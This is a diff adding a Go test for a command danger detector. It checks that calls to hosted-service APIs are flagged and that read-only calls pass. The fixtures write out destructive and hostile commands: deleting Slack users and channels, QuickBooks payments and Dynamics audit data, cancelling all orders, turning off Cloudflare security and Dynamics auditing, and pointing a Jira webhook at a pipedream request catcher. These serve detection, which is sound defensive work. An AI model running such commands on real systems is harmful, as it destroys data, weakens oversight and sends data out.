@@ -290,3 +290,33 @@ func TestRound51OfficeServers(t *testing.T) {
 		`twilio api:core:recordings:list --limit 20 -o json`,
 	})
 }
+
+// Hosted services' APIs: actions named for deletion in dotted or camel
+// method names (Slack's admin.users.remove, bulkDelete, Dynamics'
+// DeleteAuditData), QuickBooks' ?operation=delete, every order
+// cancelled, a form posted (curl -F) read as a POST; auditing switched off
+// by a body's flag, also from Python's requests with a json= body; a
+// webhook registered to a request catcher. Reads, and webhooks to the
+// team's own hosts, pass.
+func TestRound51ServiceAPIs(t *testing.T) {
+	d := NewDetector(Options{})
+	checkDanger(t, d, corpusContext, []dangerCase{
+		{`curl -s https://slack.com/api/admin.users.remove -F token="$SLACK_ORG_TOKEN" -F team_id=T02 -F user_id=U05`, CategoryCloudDestroy, "api-destroy-action", LevelHigh},
+		{`curl -s -X POST https://slack.com/api/admin.conversations.bulkDelete -H "Authorization: Bearer $T" -d channel_ids=C01,C02`, CategoryCloudDestroy, "api-destroy-action", LevelHigh},
+		{`curl -X POST "https://quickbooks.api.intuit.com/v3/company/$REALM/payment?operation=delete" -H "Authorization: Bearer $T" -d '{"Id":"227"}'`, CategoryCloudDestroy, "api-destroy-action", LevelHigh},
+		{`curl -s -X POST https://oms.acme-trading.com/api/v1/orders/cancel-all -H "Authorization: Bearer $T" -d '{"account":"*"}'`, CategoryCloudDestroy, "api-destroy-action", LevelHigh},
+		{`python3 -c "import os,requests; requests.patch('https://api.cloudflare.com/client/v4/zones/%s/settings/security_level' % os.environ['Z'], headers={'Authorization':'Bearer '+os.environ['T']}, json={'value':'essentially_off'})"`, "", "", LevelHigh},
+		{`curl -X POST -u "$U:$T" -H "Content-Type: application/json" https://acme.atlassian.net/rest/webhooks/1.0/webhook -d '{"name":"mirror","url":"https://eo1x7.m.pipedream.net","events":["jira:issue_created"]}'`, CategoryExfiltration, "data-to-drop-site", LevelCritical},
+	})
+	checkDanger(t, d, winCorpusContextFor("powershell"), []dangerCase{
+		{`Invoke-RestMethod -Method Patch -Uri "https://contoso.crm4.dynamics.com/api/data/v9.2/organizations($orgId)" -Headers $h -Body '{"isauditenabled":false}'`, CategorySystem, "api-security-setting-off", LevelHigh},
+		{`Invoke-RestMethod -Method Post -Uri "$envUrl/api/data/v9.2/DeleteAuditData" -Headers $h -Body '{"EndDate":"2025-01-01"}'`, CategoryCloudDestroy, "api-destroy-action", LevelHigh},
+	})
+	checkSafe(t, d, corpusContext, []string{
+		`curl -s https://slack.com/api/users.list -F token="$SLACK_TOKEN"`,
+		`curl -s https://slack.com/api/conversations.history -F token="$SLACK_TOKEN" -F channel=C01`,
+		`curl -s "https://quickbooks.api.intuit.com/v3/company/$REALM/query?query=select%20*%20from%20Payment" -H "Authorization: Bearer $T"`,
+		`curl -X POST -u "$U:$T" -H "Content-Type: application/json" https://acme.atlassian.net/rest/webhooks/1.0/webhook -d '{"name":"ci","url":"https://ci.acme.io/hooks/jira"}'`,
+		`python3 -c "import requests; print(requests.get('https://api.cloudflare.com/client/v4/zones').status_code)"`,
+	})
+}
